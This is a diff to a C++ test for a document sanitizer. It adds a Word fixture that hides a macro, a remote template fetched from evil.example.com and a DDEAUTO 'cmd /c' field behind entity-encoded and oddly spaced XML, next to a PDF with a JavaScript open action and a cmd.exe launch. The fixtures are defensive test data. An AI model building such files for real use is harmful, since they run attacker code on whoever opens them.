@@ -127,6 +127,12 @@ TEST_CASE("sanitized files open and have lost what runs") {
       "<Relationship Id=\"r2\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.com/t.dotm\" TargetMode=\"External\"/></Relationships>";
   const std::string body = "<w:document><w:p><w:t>Report</w:t></w:p><w:fldSimple w:instr=\"DDEAUTO cmd &quot;/c x&quot;\"/></w:document>";
   const auto docm = zip_of({{"[Content_Types].xml", types}, {"word/_rels/document.xml.rels", rels}, {"word/document.xml", body}, {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
+  const auto spelled = zip_of({{"[Content_Types].xml", types},
+                               {"word/_rels/document.xml.rels",
+                                "<x:Relationships><x:Relationship\tId='r1' Type = 'http://x/vba&#80;roject' Target='vbaProject.bin'/>"
+                                "<x:Relationship Id='>' Type='http://x/attachedTemplate' Target = 'http://evil.example.com/t.dotm'\n TargetMode\t='&#69;xternal'/></x:Relationships>"},
+                               {"word/document.xml", "<z:document><z:p><z:t>Report</z:t></z:p><z:fldSimple q='>' z:instr = '&#68;DEAUTO cmd /c x'/></z:document>"},
+                               {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
   const std::string pdf =
       "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>> >> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
       "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/Launch/F(cmd.exe)>> >>]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n";
@@ -136,6 +142,7 @@ TEST_CASE("sanitized files open and have lost what runs") {
   };
   const Row rows[] = {
       {"a Word file with a macro, a remote template and DDE", docm, "docm", {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
+      {"the same in other ways that XML has to write it", spelled, "docm", {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
       {"a PDF with a script and a launch action", pdf, "pdf", {"pdf.javascript", "pdf.open_action", "pdf.launch"}},
   };
   for (const auto& row : rows) {
